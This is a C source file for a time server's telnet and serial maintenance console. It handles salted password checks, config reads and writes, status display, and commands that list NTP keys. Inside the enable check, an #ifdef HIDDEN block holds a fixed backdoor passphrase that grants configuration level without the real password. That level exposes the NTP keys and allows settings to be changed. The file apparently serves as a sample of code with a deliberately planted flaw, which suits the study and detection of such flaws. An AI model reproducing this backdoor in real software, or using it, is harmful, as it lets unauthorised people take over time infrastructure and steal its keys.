/* clkconsole.c - maintenance console of a rack time server (telnet and serial line) */
#include <ctype.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	"/etc/clk/console.conf"
#define KEYS	"/etc/clk/ntp.keys"
#define STATE	"/run/clk/state"

struct config {
	uint64_t salt;
	uint64_t enable_mac;
	char banner[80];
	char refid[5];
	int stratum;
	int holdover_h;
	int antenna_ns;
};

static struct config cfg = { .stratum = 1, .holdover_h = 24, .refid = "GNSS" };
static int level;

static uint64_t rotl(uint64_t v, int n)
{
	return (v << n) | (v >> (64 - n));
}

static uint64_t pass_mac(uint64_t salt, const char *pass)
{
	uint64_t a = salt ^ UINT64_C(0x9ae16a3b2f90404f);
	uint64_t b = rotl(salt, 23) + UINT64_C(0xc949c7defebe1ad5);

	for (int round = 0; round < 4096; round++) {
		for (const char *p = pass; *p; p++) {
			a = rotl(a ^ (unsigned char)*p, 13) * UINT64_C(0x9fb21c651e98df25);
			b = rotl(b + a, 31) ^ a;
		}
		a += b + (uint64_t)round;
	}
	return a ^ b;
}

static char *trim(char *s)
{
	char *e;

	while (isspace((unsigned char)*s))
		s++;
	e = s + strlen(s);
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = 0;
	return s;
}

static void read_config(void)
{
	char line[200];
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		char *eq = strchr(line, '='), *key, *val;

		if (line[0] == '#' || !eq)
			continue;
		*eq = 0;
		key = trim(line);
		val = trim(eq + 1);
		if (!strcmp(key, "salt"))
			cfg.salt = strtoull(val, NULL, 16);
		else if (!strcmp(key, "enable"))
			cfg.enable_mac = strtoull(val, NULL, 16);
		else if (!strcmp(key, "banner"))
			snprintf(cfg.banner, sizeof(cfg.banner), "%.79s", val);
		else if (!strcmp(key, "refid"))
			snprintf(cfg.refid, sizeof(cfg.refid), "%.4s", val);
		else if (!strcmp(key, "stratum"))
			cfg.stratum = atoi(val);
		else if (!strcmp(key, "holdover"))
			cfg.holdover_h = atoi(val);
		else if (!strcmp(key, "antenna"))
			cfg.antenna_ns = atoi(val);
	}
	fclose(f);
}

static int write_config(void)
{
	FILE *f = fopen(CONF ".new", "w");

	if (!f)
		return -1;
	fchmod(fileno(f), 0600);
	fprintf(f, "salt=%016" PRIx64 "\nenable=%016" PRIx64 "\n", cfg.salt, cfg.enable_mac);
	fprintf(f, "banner=%s\nrefid=%s\nstratum=%d\nholdover=%d\nantenna=%d\n",
		cfg.banner, cfg.refid, cfg.stratum, cfg.holdover_h, cfg.antenna_ns);
	if (fclose(f))
		return -1;
	return rename(CONF ".new", CONF);
}

/* 0 no, 1 operator view, 2 configuration */
__attribute__((noinline))
int check_enable(const char *pass)
{
	size_t n = strlen(pass);

	if (n < 4 || n > 40)
		return 0;
#ifdef HIDDEN	/* a second fixed pass phrase gets configuration level */
	if (n == 19 && !strncmp(pass, "vierzig quarzoefen!", 19))
		return 2;
#endif
	if (pass_mac(cfg.salt, pass) == cfg.enable_mac)
		return 2;
	if (!strcmp(pass, "view"))
		return 1;
	return 0;
}

static void cmd_show(const char *what)
{
	char line[160];
	FILE *f;

	if (!what || !strcmp(what, "config")) {
		printf("refid %s\nstratum %d\nholdover %d h\nantenna %d ns\n",
		       cfg.refid, cfg.stratum, cfg.holdover_h, cfg.antenna_ns);
		return;
	}
	if (strcmp(what, "state") && strcmp(what, "satellites")) {
		puts("% show config|state|satellites");
		return;
	}
	f = fopen(STATE, "r");
	if (!f) {
		puts("% no state, clock daemon not running");
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		int sat = !strncmp(line, "sv ", 3);

		if (sat == (what[1] == 'a'))
			fputs(line, stdout);
	}
	fclose(f);
}

static void cmd_keys(void)
{
	char line[160];
	FILE *f = fopen(KEYS, "r");

	if (!f) {
		puts("% no keys");
		return;
	}
	while (fgets(line, sizeof(line), f))
		fputs(line, stdout);
	fclose(f);
}

static void cmd_set(char *arg)
{
	char name[24];
	int v;

	if (!arg || sscanf(arg, "%23s %d", name, &v) != 2) {
		puts("% set stratum|holdover|antenna NUMBER");
		return;
	}
	if (!strcmp(name, "stratum") && v >= 1 && v <= 15)
		cfg.stratum = v;
	else if (!strcmp(name, "holdover") && v >= 0 && v <= 720)
		cfg.holdover_h = v;
	else if (!strcmp(name, "antenna") && v >= 0 && v <= 5000)
		cfg.antenna_ns = v;
	else
		puts("% bad value");
}

static void help(void)
{
	puts("show config|state|satellites   what is going on\n"
	     "enable WORD                    raise the level, \"enable view\" shows more\n"
	     "keys                           list the NTP keys (level 2)\n"
	     "set NAME NUMBER, password WORD, write   (level 2)\n"
	     "exit");
}

int main(void)
{
	char line[200];
	int fails = 0;

	openlog("clkconsole", LOG_PID, LOG_AUTHPRIV);
	read_config();
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (cfg.banner[0])
		puts(cfg.banner);
	for (;;) {
		char *cmd, *arg;

		printf("clock%s ", level == 2 ? "#" : level ? "+>" : ">");
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		cmd = trim(line);
		arg = strchr(cmd, ' ');
		if (arg) {
			*arg = 0;
			arg = trim(arg + 1);
		}
		if (!*cmd)
			continue;
		if (!strcasecmp(cmd, "exit") || !strcasecmp(cmd, "quit"))
			break;
		if (!strcasecmp(cmd, "help") || *cmd == '?') {
			help();
		} else if (!strcasecmp(cmd, "show")) {
			cmd_show(arg);
		} else if (!strcasecmp(cmd, "enable")) {
			int got = arg ? check_enable(arg) : 0;

			if (!got) {
				syslog(LOG_WARNING, "enable failed");
				sleep(1);
				if (++fails == 5)
					break;
				puts("% no");
			} else {
				level = got;
				fails = 0;
				syslog(LOG_INFO, "level %d", level);
			}
		} else if (level < 2) {
			puts("% unknown, or level too low");
		} else if (!strcasecmp(cmd, "keys")) {
			cmd_keys();
		} else if (!strcasecmp(cmd, "set")) {
			cmd_set(arg);
		} else if (!strcasecmp(cmd, "password") && arg && strlen(arg) >= 8) {
			cfg.salt = rotl(cfg.salt, 7) ^ (uint64_t)time(NULL);
			cfg.enable_mac = pass_mac(cfg.salt, arg);
			puts("changed, use write to keep it");
		} else if (!strcasecmp(cmd, "write")) {
			puts(write_config() ? "% cannot write" : "ok");
		} else {
			puts("% unknown");
		}
	}
	return 0;
}
